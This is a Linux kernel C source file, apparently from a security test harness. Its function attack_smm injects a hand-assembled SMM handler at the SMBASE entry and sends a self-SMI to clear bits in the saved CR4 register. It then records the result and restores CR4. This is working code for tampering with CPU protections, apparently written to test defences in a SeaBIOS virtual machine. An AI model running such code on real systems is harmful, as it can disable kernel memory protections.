// SPDX-License-Identifier: GPL-2.0-only
/*
 * Sends an SMI to the current CPU, whose SMBASE the firmware must not have moved (SeaBIOS
 * only moves that of the boot CPU). So the SMI handler is in ordinary memory; it changes
 * the saved CR4, and RSM loads that.
 */
#include <linux/io.h>
#include <linux/string.h>
#include <asm/apic.h>
#include <asm/msr.h>
#include "access.h"
#include "cr.h"
#include "low.h"
#include "smm.h"

void attack_smm(const struct attack *attack, struct attempt *a)
{
	static const u8 and_mem[] = { 0x67, 0x66, 0x81, 0x25 }, rsm[] = { 0x0f, 0xaa };
	u32 address = SMRAM_CR4, keep = (u32)~attack->clear;
	u8 *code = phys_to_virt(SMM_ENTRY);
	unsigned long rip;

	a->old = read_register(REG_CR4);
	a->new = wanted(attack, a->old);
	a->rip = SMM_ENTRY + sizeof(and_mem) + sizeof(address) + sizeof(keep);
	memcpy(code, and_mem, sizeof(and_mem));
	memcpy(code + 4, &address, sizeof(address));
	memcpy(code + 8, &keep, sizeof(keep));
	memcpy(code + 12, rsm, sizeof(rsm));
	wmb();
	wrmsrl(APIC_BASE_MSR + (APIC_ICR >> 4),
	       (u64)per_cpu(x86_cpu_to_apicid, smp_processor_id()) << 32 |
	       APIC_INT_ASSERT | APIC_DM_SMI);
	for (int i = 0; i < 1000000 && read_register(REG_CR4) == a->old; i++)
		cpu_relax();
	a->seen = read_register(REG_CR4);
	a->mark = attack->effect(a);
	if (a->seen != a->old)
		mov_cr4(a->old, &rip);
}
